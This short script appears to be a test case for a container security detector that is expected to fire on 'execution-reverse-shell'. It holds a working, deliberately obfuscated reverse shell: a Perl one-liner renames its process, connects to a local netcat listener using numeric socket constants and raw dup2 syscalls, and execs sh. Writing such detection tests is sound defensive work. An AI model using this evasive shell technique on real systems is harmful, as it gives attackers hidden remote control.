# in: container
# fires: execution-reverse-shell
# Under another name, and with numbers for what others find words for.
nc -l -p 4444 < /dev/null &
sleep 0.3
perl -e '$0 = "worker"; socket(S, 2, 1, 6); connect(S, pack("S n C4 x8", 2, 4444, 127, 0, 0, 1)) or die $!;
  for (0 .. 2) { syscall(33, fileno(S), $_) } exec "sh"'
